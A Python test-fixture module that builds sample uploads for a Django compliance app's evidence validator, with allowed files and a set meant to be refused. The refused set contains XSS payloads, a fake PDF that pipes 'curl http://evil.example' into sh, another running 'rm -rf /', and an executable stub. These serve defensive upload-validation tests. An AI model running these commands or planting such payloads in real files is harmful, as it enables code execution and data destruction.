"""Files of every kind for the evidence tests, built in code (no binary blobs), and helpers."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

from compliance.evidence_samples import pdf_letter


def png_bytes() -> bytes:
    """A valid 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    """A JFIF header and end marker: what content sniffing reads."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\xff\xd9"


def docx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.sh", "#!/bin/sh\necho hi\n")
    return buffer.getvalue()


EML = (
    b"From: Secretary <secretary@doc.example>\r\n"
    b"To: compliance@lab.example\r\n"
    b"Date: Fri, 26 Jun 2026 09:00:00 -0400\r\n"
    b"Subject: Limited release\r\n"
    b"Message-ID: <1@doc.example>\r\n"
    b"\r\n"
    b"The limited release of model A may proceed.\r\n"
)
# As agencies send them: a plain part and an HTML part.
EML_WITH_HTML = (
    b"From: Office of the Secretary <secretary@doc.example>\r\n"
    b"To: compliance@lab.example\r\n"
    b"Date: Fri, 26 Jun 2026 17:21:00 -0400\r\n"
    b"Subject: Directive: foreign access\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="part"\r\n'
    b"\r\n"
    b"--part\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
    b"Restrict foreign access to model A.\r\n"
    b"--part\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><body><p>Restrict foreign access to <b>model A</b>.</p></body></html>\r\n"
    b"--part--\r\n"
)

ALLOWED = {
    "letter.pdf": (lambda: pdf_letter(["June 26 letter"]), "application/pdf"),
    "scan.png": (png_bytes, "image/png"),
    "photo.jpg": (jpeg_bytes, "image/jpeg"),
    "note.txt": (lambda: "A plain letter, in UTF-8: café.\n".encode(), "text/plain"),
    "mail.eml": (lambda: EML, "message/rfc822"),
    "directive.eml": (lambda: EML_WITH_HTML, "message/rfc822"),
    "markup.txt": (lambda: b"The letter asks us to use <p> tags in replies.\n", "text/plain"),
    "terms.txt": (
        lambda: (
            b"Response time < a day; headcount < head office target.\n"
            b"Contact: <linkedin-office@doc.example>, <form.desk@doc.example>\n"
        ),
        "text/plain",
    ),
    "memo.docx": (
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}

REFUSED = {
    "page.html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    # Text a browser would sniff as HTML (WHATWG MIME Sniffing's signatures).
    "fragment.txt": b'\n  <div onclick="alert(1)">Approved</div>',
    "table.txt": b"<TABLE><tr><td onmouseover=alert(1)>x</td></tr></TABLE>",
    "comment.txt": b"<!-- x -->\n<b>bold</b>",
    "heading.txt": b"<h1>Notice</h1><p>x</p>",
    # Headers of a plain (not MIME) message do not make its markup a message's HTML part.
    "masked.txt": b"From: a@b.example\r\nDate: Fri, 26 Jun 2026 09:00:00 -0400\r\n"
    b"To: c@d.example\r\n\r\n<html><body><script>alert(1)</script></body></html>\r\n",
    "masked-svg.eml": b"From: a@b.example\r\nDate: Fri, 26 Jun 2026 09:00:00 -0400\r\n"
    b'To: c@d.example\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\r\n',
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "letter.pdf": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "report.pdf": b"import os\nos.system('rm -rf /')\n",
    "tool.exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64,
    "bundle.zip": zip_bytes(),
    "macro.docx": docx_bytes({"word/payload.js": b"alert(1)"}),
}


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)
